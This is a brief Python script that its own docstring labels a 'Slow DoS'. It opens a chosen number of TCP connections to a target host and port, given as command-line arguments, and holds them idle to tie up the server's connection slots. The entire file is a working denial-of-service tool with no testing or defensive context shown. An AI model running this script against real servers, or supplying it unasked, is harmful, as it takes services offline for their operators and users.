"""Slow DoS: opens N TCP connections to HOST:PORT and holds them idle for SECONDS."""
import socket, sys, time
host, port, n, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
socks = []
for _ in range(n):
    s = socket.create_connection((host, port), timeout=5)
    socks.append(s)
    time.sleep(0.05)
time.sleep(secs)
for s in socks:
    s.close()
